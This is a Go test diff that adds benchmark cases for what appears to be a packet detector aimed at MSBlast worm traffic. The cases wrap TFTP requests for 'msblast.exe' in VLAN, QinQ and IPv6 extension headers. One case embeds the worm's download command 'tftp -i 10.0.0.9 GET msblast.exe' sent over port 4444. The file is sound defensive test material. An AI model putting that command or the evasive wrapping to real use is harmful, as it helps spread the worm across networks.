@@ -26,6 +26,12 @@ func BenchmarkPacket(b *testing.B) {
 		{"tftp-legit", layers.LinkTypeEthernet, udp4(b, other, infected, 2000, 69, rrq(1, "pxelinux.0", "octet"))},
 		{"ipv6-udp", layers.LinkTypeRaw, ip6UDP(b, victim6, infected6, 1, 2, []byte("hello"))},
 		{"tftp-msblast", layers.LinkTypeEthernet, udp4(b, victim, infected, 1025, 69, rrq(1, "msblast.exe", "octet"))},
+		{"qinq-tftp-msblast", layers.LinkTypeEthernet, ethRaw([]uint16{0x88a8, 0x8100}, 0x0800, ip4Raw(protoUDP, udpBytes(b, 1025, 69, rrq(1, "msblast.exe", "octet"))))},
+		{"vlan-ipv6-ext-tftp-msblast", layers.LinkTypeEthernet, ethRaw([]uint16{0x8100}, 0x86dd,
+			ip6Raw([]byte{protoHopByHop, protoRouting, protoDestOpts}, protoUDP, udpBytes(b, 1025, 69, rrq(1, "msblast.exe", "octet"))))},
+		{"vlan-ipv6-ext-https", layers.LinkTypeEthernet, ethRaw([]uint16{0x8100}, 0x86dd,
+			ip6Raw([]byte{protoHopByHop, protoRouting, protoDestOpts}, protoTCP, tcpRaw(443, bytes.Repeat([]byte("x"), 1200))))},
+		{"ipv6-tcp-4444-command", layers.LinkTypeEthernet, ethRaw(nil, 0x86dd, ip6Raw(nil, protoTCP, tcpRaw(4444, []byte("tftp -i 10.0.0.9 GET msblast.exe"))))},
 	}
 	for _, c := range cases {
 		b.Run(c.name, func(b *testing.B) {
